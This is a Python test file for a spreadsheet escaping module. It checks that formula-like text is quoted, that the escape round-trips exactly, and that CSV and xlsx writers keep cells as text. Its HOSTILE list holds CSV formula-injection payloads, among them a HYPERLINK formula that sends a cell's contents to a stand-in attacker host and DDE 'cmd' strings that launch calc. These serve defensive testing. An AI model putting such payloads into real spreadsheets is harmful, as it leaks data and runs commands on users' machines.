"""Spreadsheet cells are data, never formulas, and the escape is undone exactly."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from legalsim.spreadsheet import TRIGGERS, CsvDictWriter, CsvWriter, cell_escape, cell_unescape, xlsx_append

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Text that starts with a quote and then a trigger: escaped with one more quote, so that
# unescaping (which strips exactly one) gives it back.
QUOTED = ["'=already quoted", "''@twice quoted", "'\t'-mixed"]
HARMLESS = ["", "plain", "it's fine", "'quoted'", "'", "''", " =1", "1-2", "a=b", "中文理由"]

# Text made mostly of quotes and triggers, where the edge cases are, and any text at all.
tricky_text = st.text(alphabet=st.sampled_from(["'", *TRIGGERS, "a", " ", "\n"]), max_size=8)
any_text = st.one_of(tricky_text, st.text())


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_one_leading_quote(text):
    assert cell_escape(text) == "'" + text
    assert cell_unescape(cell_escape(text)) == text


@pytest.mark.parametrize("text", QUOTED)
def test_text_already_quoted_before_a_trigger_gets_one_more_quote(text):
    assert cell_escape(text) == "'" + text
    assert cell_unescape(cell_escape(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_and_read_as_it_is(text):
    assert cell_escape(text) == text and cell_unescape(text) == text


@pytest.mark.parametrize("number", [-1, -1.5, 0, 7, 2.5, np.float64(-0.25), np.int64(-3), Decimal("-1"), None, True])
def test_numbers_and_other_values_are_never_altered(number):
    assert cell_escape(number) is number and cell_unescape(number) is number


@given(any_text)
@example("'=")
@example("''")
@example("'")
def test_unescape_undoes_escape_exactly(text):
    assert cell_unescape(cell_escape(text)) == text


@given(any_text)
def test_an_escaped_cell_never_starts_with_a_trigger(text):
    assert not cell_escape(text).startswith(TRIGGERS)


@given(any_text, any_text)
def test_different_texts_stay_different_once_escaped(first, second):
    if first != second:
        assert cell_escape(first) != cell_escape(second)


def test_both_csv_writers_escape_text_and_keep_numbers():
    plain = io.StringIO()
    CsvWriter(plain).writerows([["reason", "score"], *([text, -1] for text in HOSTILE)])
    keyed = io.StringIO()
    writer = CsvDictWriter(keyed, fieldnames=["reason", "score"])
    writer.writeheader()
    writer.writerows({"reason": text, "score": -1} for text in HOSTILE)
    for buffer in (plain, keyed):
        rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
        assert rows[0] == ["reason", "score"]
        assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
        assert {row[1] for row in rows[1:]} == {"-1"}


def test_xlsx_cells_are_stored_as_text_never_as_formulas():
    workbook = Workbook()
    xlsx_append(workbook.active, ["reason", "score", "error"])
    for text in [*HOSTILE, *QUOTED]:
        xlsx_append(workbook.active, [text, -1, "#N/A"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = [cell for row in load_workbook(buffer).active.iter_rows(min_row=2) for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type not in ("s", "n")]
    # XML reads a carriage return back as a line feed: the quote in front is what matters here
    assert [cell.value for cell in cells[::3]] == ["'" + text.replace("\r", "\n") for text in [*HOSTILE, *QUOTED]]
    assert {cell.value for cell in cells[1::3]} == {-1} and {cell.value for cell in cells[2::3]} == {"#N/A"}


def test_a_control_character_does_not_stop_an_xlsx_report():
    """A judge name or reason with a character XML cannot carry (\\x01) made openpyxl refuse
    the whole workbook; the character is replaced and the rest of the text kept."""
    workbook = Workbook()
    xlsx_append(workbook.active, ["judge\x01model", "=bad\x0b"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert [cell.value for cell in next(load_workbook(buffer).active.iter_rows())] == [
        "judge\ufffdmodel",
        "'=bad\ufffd",
    ]
